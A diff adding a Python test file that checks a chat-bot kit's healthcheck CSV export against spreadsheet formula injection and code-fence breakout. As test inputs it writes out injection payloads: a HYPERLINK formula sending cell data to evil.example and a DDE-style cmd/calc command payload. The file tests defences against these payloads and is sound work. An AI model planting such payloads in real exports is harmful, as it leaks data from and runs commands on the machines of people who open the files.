@@ -1,0 +1,39 @@
+"""Exports hold what people wrote without letting it act: a CSV cell that a spreadsheet would
+evaluate (=HYPERLINK(…), +cmd, -…, @…, a leading tab or carriage return) starts with an
+apostrophe, and a title with three backticks cannot end the export's code block."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from test_healthcheck_helpers import MEMBERS, PLUGINS, answer, start
+
+from copkit.core.usertext import spreadsheet_safe
+from copkit.testing import Harness
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+
+
+def test_spreadsheet_safe_cells():
+    for bad in (FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
+        assert spreadsheet_safe(bad) == "'" + bad
+    assert spreadsheet_safe("Purpose") == "Purpose" and spreadsheet_safe(-3) == -3
+    assert spreadsheet_safe("a=b") == "a=b"
+
+
+async def test_healthcheck_export_neutralises_formulas_and_fences(db_url):
+    async with Harness(db_url, plugins=PLUGINS) as h:
+        await h.say("leader", f"healthcheck deck add '{FORMULA}' --awesome '@ok' --crappy '-bad'")
+        await h.say("leader", "healthcheck deck add 'Fence ``` **out**' --awesome a --crappy b")
+        rid = await start(h)
+        for who in MEMBERS[:4]:
+            await answer(h, who, rid, "green")
+        await h.say("leader", "healthcheck close")
+        (msg,) = await h.say("leader", "healthcheck export --format csv")
+        text = msg.view.text
+        assert text.startswith("```csv\n") and text.endswith("\n```") and text.count("```") == 2
+        rows = list(csv.DictReader(io.StringIO(text.split("\n", 1)[1].rsplit("```", 1)[0])))
+        titles = [r["title"] for r in rows]
+        assert "'" + FORMULA in titles and FORMULA not in titles
+        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
